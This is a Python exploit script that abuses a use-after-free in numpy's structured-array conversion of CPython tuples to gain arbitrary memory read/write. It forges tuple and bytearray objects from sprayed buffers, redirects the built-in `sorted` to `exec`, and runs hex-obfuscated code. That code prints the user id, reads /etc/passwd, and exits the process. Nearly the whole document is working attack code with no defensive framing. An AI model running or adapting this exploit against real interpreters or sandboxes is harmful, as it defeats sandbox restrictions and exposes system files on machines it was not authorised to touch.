# source: CPython Lib/collections/__init__.py ChainMap.__len__ (len(set().union(*self.maps))) iterates its maps, a map() object calls a function; numpy array_coercion.c PyArray_AssignFromCache_Recursive reads list items via PySequence_Fast_GET_ITEM with the length it read once; CPython 3.11 Objects/tupleobject.c (tuples of >=21 items bypass the freelist), bytearrayobject.c (fake bytearray with ob_start=NULL reads/writes any address), bltinmodule.c builtin_methods table (PyMethodDef swap); classic CPython UAF->fake object technique from pyjail/CTF write-ups
# family: ChainMap/map callback in a structured-row conversion -> UAF of freed 22-item row tuples -> fake tuple from a sprayed bytearray -> fake bytearray over a __slots__ object -> arbitrary R/W -> PyMethodDef swap sorted->exec
# goal: exec of run-time code that imports os, prints os.getuid() and reads /etc/passwd
import collections
import numpy as np

def addr_of_hash(h):
    u = h % (1 << 64)
    return ((u << 4) | (u >> 60)) % (1 << 64)

def addr_of_repr(o):
    return int(repr(o).split(" at ")[1].rstrip(">"), 16)

class S:
    __slots__ = ("a", "b", "c", "d", "e", "f", "g", "h", "i")

class F:
    def __float__(self):
        return 1.0

NF = 22
N = 40
K = 30
L = []
SPRAY = []
FAKE = b""
state = {"done": 0}

def hook(k):
    if state["done"] == 0:
        state["done"] = 1
        del L[K:]
        for j in range(200):
            SPRAY.append(bytearray(FAKE))
    return k

class A:
    def __init__(self):
        self.m = collections.ChainMap(map(hook, [0]))
    def __float__(self):
        return float(len(self.m))

s = S()
s.b = bytearray
s.c = len
s.d = len
s.h = sorted
f = F()
fake_ba = addr_of_repr(s) + 16
fa = addr_of_repr(f)
tup_t = addr_of_hash(hash(tuple))
q = lambda v: int(v).to_bytes(8, "little")
body = q(1000) + q(tup_t) + q(NF) + q(fa) + q(fake_ba) + q(fa) * (NF - 2)
FAKE = bytes(16) + body + bytes(223 - 16 - len(body))

dt = np.dtype([("x", float), ("o", object)] + [("p%d" % j, object) for j in range(NF - 2)])
a0 = A()
L.append(tuple([a0] + [0] * (NF - 1)))
for j in range(N - 1):
    L.append(tuple([f] + [j] * (NF - 1)))
print("list rows:", len(L), flush=True)
out = np.array(L, dtype=dt)
print("after", len(L), flush=True)
got = [out["o"][j] for j in range(N)]
print([type(g).__name__ for g in got], flush=True)
mem = got[K]
sa = addr_of_repr(s)
def rd(a, n):
    return bytes(mem[a:a + n])
def r64(a):
    return int.from_bytes(rd(a, 8), "little")
mem[sa + 32:sa + 40] = q(1 << 62)
mem[sa:sa + 8] = q(1 << 40)
mem[sa + 16:sa + 24] = q(1 << 40)
print("arbitrary read: first bytes of the S object:", rd(sa, 16).hex(), flush=True)
fn = r64(sa + 16 + 8 * 7)
ml = r64(fn + 16)
base_name = r64(ml)
target = 0
for j in range(0, -60, -1):
    md = ml + 32 * j
    nm = r64(md)
    if nm == 0 or abs(nm - base_name) > (1 << 22):
        continue
    if rd(nm, 5) == b"exec\x00":
        target = md
        break
print("sorted at", hex(fn), "methoddef", hex(ml), "exec methoddef", hex(target), flush=True)
mem[fn + 16:fn + 24] = q(target)
lenp = r64(sa + 16 + 8 * 3)
mem[sa + 16:sa + 24] = q(lenp)
mem[sa + 32:sa + 40] = q(lenp)
sorted(bytes.fromhex("696d706f7274206f733b207072696e74286f732e67657475696428292c206f70656e28272f6574632f70617373776427292e7265616428295b3a3330305d29").decode())
sys_flush = bytes.fromhex("696d706f7274207379732c206f733b207379732e7374646f75742e666c75736828293b206f732e5f65786974283029").decode()
sorted(sys_flush)
